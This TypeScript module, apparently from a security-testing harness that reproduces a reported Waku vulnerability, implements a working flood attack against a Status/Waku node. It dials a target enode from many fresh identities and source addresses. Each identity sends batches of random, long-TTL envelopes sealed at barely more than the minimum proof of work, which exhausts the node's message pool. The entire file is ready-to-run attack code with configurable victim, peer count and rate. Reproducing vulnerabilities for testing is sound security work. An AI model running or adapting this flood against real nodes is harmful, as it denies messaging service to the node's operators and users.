import { randomBytes } from 'node:crypto';
import { generatePrivateKey } from '@status-ts/crypto';
import { Server } from '@status-ts/devp2p';
import {
  type Envelope,
  encodeEnvelopeList,
  STATUS_MIN_POW,
  sealEnvelopeSync,
  WakuCode,
} from '@status-ts/waku';
import { runChild } from '../child.js';
import { rawWakuCapability } from './raw-waku.js';

/**
 * Pool exhaustion (issue 18, item 1): envelopes with a long TTL need almost no PoW at the minimum PoW a Status
 * node requires, so `peers` identities (each from an address of its own) seal them as fast as they like and
 * send `perPacket` of them per Messages packet every `packetIntervalMs`, until each has sent `envelopesPerPeer`.
 */
export interface WakuFloodConfig {
  readonly victimEnode: string;
  readonly peers: number;
  /** Source address of each peer, in turn. */
  readonly sources: readonly string[];
  readonly envelopesPerPeer: number;
  readonly ttl: number;
  readonly perPacket: number;
  readonly packetIntervalMs: number;
  readonly dataBytes: number;
}

function seal(config: WakuFloodConfig, count: number): Envelope[] {
  const now = Math.floor(Date.now() / 1000);
  return Array.from(
    { length: count },
    () =>
      sealEnvelopeSync(
        {
          expiry: now + config.ttl,
          ttl: config.ttl,
          topic: randomBytes(4),
          data: randomBytes(config.dataBytes),
        },
        { pow: STATUS_MIN_POW * 1.01 },
      ).envelope,
  );
}

await runChild<WakuFloodConfig>(async ({ config, emit }) => {
  let envelopes = 0;
  let packets = 0;
  const flood = async (send: (code: number, payload: Uint8Array) => Promise<void>) => {
    for (let sent = 0; sent < config.envelopesPerPeer; sent += config.perPacket) {
      const batch = seal(config, Math.min(config.perPacket, config.envelopesPerPeer - sent));
      await send(WakuCode.Messages, encodeEnvelopeList(batch));
      envelopes += batch.length;
      packets++;
      await new Promise((resolve) => setTimeout(resolve, config.packetIntervalMs));
    }
  };
  const floods: Promise<void>[] = [];
  for (let i = 0; i < config.peers; i++) {
    let done!: () => void;
    floods.push(new Promise<void>((resolve) => (done = resolve)));
    const server = new Server({
      privateKey: generatePrivateKey(),
      listen: false,
      capabilities: [rawWakuCapability((stream) => flood((code, p) => stream.send(code, p)).finally(done))],
    });
    await server.start();
    const localAddress = config.sources[i % config.sources.length]!;
    server.dial(config.victimEnode, { localAddress }).catch(() => done());
  }
  void Promise.all(floods).then(() => emit({ type: 'flooded', envelopes, packets }));
  return {};
});
